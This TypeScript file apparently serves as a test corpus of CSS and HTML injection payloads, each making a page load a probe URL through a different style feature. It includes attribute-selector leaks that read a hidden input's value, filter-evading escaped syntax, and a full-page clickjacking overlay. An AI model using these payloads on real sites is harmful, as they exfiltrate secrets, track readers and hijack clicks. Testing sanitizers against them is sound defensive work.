// Style sheets: what they load, and what they read from a page character by character.
import { family, markup } from "./payload.ts";

const style = (css: (hit: string) => string) =>
  markup(({ hit }) => `<style>${css(hit())}</style><p class="x">Text</p>`);
const inline = (css: (hit: string) => string) => markup(({ hit }) => `<p style="${css(hit())}">Text</p>`);

export const styles = family("styles", {
  import: style((hit) => `@import url(${hit});`),
  "import-string": style((hit) => `@import "${hit}" screen;`),
  "import-layered": style((hit) => `@import url("${hit}") layer(x) supports(display:grid);`),
  "import-escaped": style((hit) => `@\\69mport url(${hit});`),
  background: style((hit) => `body{background:url(${hit})}`),
  "background-escaped": style((hit) => `body{background:u\\72l(${hit})}`),
  "list-image": style((hit) => `p{display:list-item;list-style-image:url(${hit})}`),
  "border-image": style((hit) => `p{border:9px solid;border-image:url(${hit}) 30}`),
  content: style((hit) => `p::after{content:url(${hit})}`),
  cursor: style((hit) => `p{cursor:url(${hit}),auto}`),
  font: style((hit) => `@font-face{font-family:x;src:url(${hit})}p{font-family:x}`),
  "font-by-character": style((hit) => `@font-face{font-family:x;src:url(${hit});unicode-range:U+54}p{font-family:x}`),
  "shape-outside": style((hit) => `p{float:left;shape-outside:url(${hit})}`),
  "image-set": style((hit) => `p{background:image-set(url(${hit}) 1x)}`),
  "cross-fade": style((hit) => `p{background:-webkit-cross-fade(url(${hit}),url(data:,),50%)}`),
  mask: style((hit) => `p{mask-image:url(${hit})}`),
  "filter-outside": markup(({ hit }) => `<style>p{filter:url(${hit()}#x)}</style><p class="x">Text</p>`, {
    unproven: "Chromium takes a filter from its own origin alone",
  }),
  "attribute-leak": markup(
    ({ hit }) => `<style>input[value^="s"]{background:url(${hit("begins-with-s")})}</style><input value="secret">`,
  ),
  "attribute-leak-nested": markup(
    ({ hit }) =>
      `<style>form{&:has(input[value$="t"]){background:url(${hit("ends-with-t")})}}</style><form><input type="hidden" value="secret">x</form>`,
  ),
  "variable-chain": style((hit) => `:root{--a:url(${hit})}p{background:var(--a)}`),
  keyframes: style((hit) => `@keyframes k{from,to{background-image:url(${hit})}}p{animation:k 9s}`),
  "page-media": style((hit) => `@media (min-width:1px){p{background:url(${hit})}}`),
  "container-query": style(
    (hit) => `body{container-type:inline-size}@container (min-width:1px){p{background:url(${hit})}}`,
  ),
  attribute: inline((hit) => `background:url(${hit})`),
  "attribute-quoted": inline((hit) => `background-image:url('${hit}')`),
  "attribute-escaped": inline((hit) => `background-image:\\75 rl('${hit}')`),
  "counter-style": style(
    (hit) =>
      `@counter-style c{system:cyclic;symbols:url(${hit}) "x"}p{display:list-item;list-style:c;background:url(${hit})}`,
  ),
  "cover-the-page": markup(
    ({ hit }) =>
      `<a data-click style="position:fixed;inset:0;z-index:2147483647;background:url(${hit()})" href="#">x</a>`,
    { pressed: true },
  ),
});
